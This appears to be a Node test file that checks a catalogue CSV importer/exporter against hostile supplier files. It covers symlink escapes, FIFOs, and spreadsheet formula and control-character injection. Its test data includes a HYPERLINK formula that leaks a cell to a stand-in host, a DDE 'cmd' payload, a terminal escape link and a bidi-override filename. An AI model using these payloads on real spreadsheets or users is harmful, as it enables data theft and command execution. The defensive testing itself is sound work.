/**
 * The catalogue importer and exporter against a hostile supplier file (issue 38 item 4, security probe 2026-12-01):
 * N7, image files are read only when they are regular files inside --images DIR (no symlink out, no FIFO); N8, the CSV
 * export neutralises what a spreadsheet would run and escapes control characters, and reads back unchanged.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';
import sharp from 'sharp';
import { openDb, type Db } from '../src/db/index.ts';
import { parseCsv } from '../src/catalog/csv.ts';
import { readCatalog, writeCatalogCsv, writeCatalogJson } from '../src/catalog/format.ts';
import { exportCatalog, importCatalog } from '../src/catalog/import.ts';
import { freshDb, type TestDb } from './helpers.ts';

let db: TestDb;
let work: string;
let d: Db | null = null;
before(async () => {
  db = await freshDb();
  work = fs.mkdtempSync(path.join(os.tmpdir(), 'istore-catalog-sec-'));
  d = await openDb({ databaseUrl: db.databaseUrl, dataDir: db.dataDir });
});
after(async () => {
  await d?.close();
  await db.cleanup();
  fs.rmSync(work, { recursive: true, force: true });
});

const HEADER = 'sku,name_en,name_zh,description_en,description_zh,category,category_zh,category_image,brand,brand_zh,tags,clearance,price,list_price,member_price,images,options,combination,combination_sku,stock';
const csvCell = (v: string) => (/[",\r\n]/.test(v) || /^\s|\s$/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
const row = (sku: string, name: string, img = '', desc = '') =>
  [sku, name, `水壶 ${sku}`, desc, '', 'Home & Kitchen', '家居厨房', 'category-home-kitchen.svg', 'Lakeside Goods', '湖畔良品', '', '', '49.00', '', '', img, '', '', '', '4'].map(csvCell).join(',');
const load = (text: string, images: string | null = null) => importCatalog(d!, readCatalog(text, 'csv', 'CAD'), { imagesDir: images, dryRun: false });

async function refusal(run: Promise<unknown>): Promise<string> {
  try {
    await run;
  } catch (e) {
    return (e as { errors: string[] }).errors.join('\n');
  }
  throw new Error('the import was not refused');
}

test('N7: an image that is a symlink out of --images DIR, a FIFO or a folder is refused; a link inside the folder is read', { timeout: 60_000 }, async () => {
  const images = path.join(work, 'images');
  const outside = path.join(work, 'private');
  fs.mkdirSync(images);
  fs.mkdirSync(outside);
  await sharp({ create: { width: 900, height: 600, channels: 3, background: '#b03a2e' } }).jpeg().toFile(path.join(outside, 'id-photo.jpg'));
  await sharp({ create: { width: 900, height: 600, channels: 3, background: '#1f6f50' } }).jpeg().toFile(path.join(images, 'real.jpg'));
  fs.symlinkSync(path.join(outside, 'id-photo.jpg'), path.join(images, 'supplier-photo.jpg'));
  fs.symlinkSync('real.jpg', path.join(images, 'alias.jpg'));
  fs.mkdirSync(path.join(images, 'folder.jpg'));
  execFileSync('mkfifo', [path.join(images, 'fifo.png')]);

  const problems = await refusal(load([HEADER, row('N7-1', 'Leak', 'supplier-photo.jpg'), row('N7-2', 'Hang', 'fifo.png'), row('N7-3', 'Dir', 'folder.jpg')].join('\n'), images));
  assert.equal(problems, [
    `line 2, images: 'supplier-photo.jpg' is a link to a file outside ${images}`,
    "line 3, images: 'fifo.png' is not a regular file",
    "line 4, images: 'folder.jpg' is not a regular file",
  ].join('\n'));
  assert.deepEqual((await d!.query(`SELECT sku FROM products WHERE sku LIKE 'N7-%'`)).rows, [], 'nothing imported');

  const fine = await load([HEADER, row('N7-4', 'Alias', 'alias.jpg')].join('\n'), images);
  assert.equal(fine.photosAdded, 1, 'a link that stays in the folder is an ordinary file');
});

const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for invoice")',
  dde: "-2+3+cmd|' /C calc'!A0",
  plus: '+1-555-0100 hotline',
  at: '@SUM(1+1)',
  spaced: ' =1+1',
  escape: 'Kettle \u001b]8;;http://evil.example\u001b\\Click\u001b]8;;\u001b\\ \u009b2J end',
  backslash: 'Kettle \\x41 \\ backslash',
  bidi: 'Kettle \u202egpj.exe',
};

test('N8: exported CSV cells a spreadsheet would run are neutralised, control characters escaped; the export imports back unchanged', async () => {
  const names = Object.values(HOSTILE);
  await load([HEADER, ...names.map((n, i) => row(`N8-${i}`, n, 'kettle-drawn.svg', i === 0 ? '\t=1+1 in the description' : ''))].join('\n'));
  const stored = (await d!.query(`SELECT sku, name_en FROM products WHERE sku LIKE 'N8-%' ORDER BY sku`)).rows.map((r: any) => r.name_en);
  assert.deepEqual(stored, names.map((n) => n.trim()), 'the importer keeps the text (the CSV trims outer spaces)');
  // A name that starts with the marker itself (typed in by hand, say) must come back with it too.
  const marked = "'quoted' kettle \\x41 \\";
  await d!.query(`UPDATE products SET name_en = $1 WHERE sku = 'N8-0'`, [marked]);
  stored[0] = marked;
  names[0] = marked;

  const before = writeCatalogJson(await exportCatalog(d!));
  const csv = writeCatalogCsv(await exportCatalog(d!));
  assert.ok(!/[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e]/.test(csv), 'no control character in the file');
  // Cell by cell as a spreadsheet reads them (quotes removed, no decoding): none starts with what it would run.
  const raw = csv.split('\n').slice(1).filter(Boolean).flatMap((line) => splitRaw(line));
  for (const cell of raw) assert.doesNotMatch(cell, /^\s*[=+\-@\t\r]/, `a cell a spreadsheet would run: ${cell}`);
  assert.ok(raw.includes(`'${HOSTILE.dde}`), 'the formula is shown as text');

  // Read back, the same text; imported again, the same catalogue.
  const reread = parseCsv(csv).slice(1).map((r) => r.fields[1]);
  for (const n of names) assert.ok(reread.includes(n.trim()), `reads back: ${JSON.stringify(n)}`);
  const again = await importCatalog(d!, readCatalog(csv, 'csv', 'CAD'), { imagesDir: null, dryRun: false });
  assert.equal(again.productsAdded, 0);
  assert.equal(writeCatalogJson(await exportCatalog(d!)), before);
  assert.deepEqual((await d!.query(`SELECT name_en FROM products WHERE sku LIKE 'N8-%' ORDER BY sku`)).rows.map((r: any) => r.name_en), stored);
});

/** One CSV line's cells as a spreadsheet sees them: unquoted, quotes undoubled, nothing decoded (no quoted newlines here). */
function splitRaw(line: string): string[] {
  const cells: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let j = i + 1;
      let v = '';
      for (;;) {
        if (line[j] === '"' && line[j + 1] === '"') { v += '"'; j += 2; continue; }
        if (line[j] === '"') break;
        v += line[j++];
      }
      cells.push(v);
      i = j + 2;
    } else {
      const end = line.indexOf(',', i);
      cells.push(line.slice(i, end < 0 ? line.length : end));
      i = end < 0 ? line.length + 1 : end + 1;
    }
  }
  return cells;
}
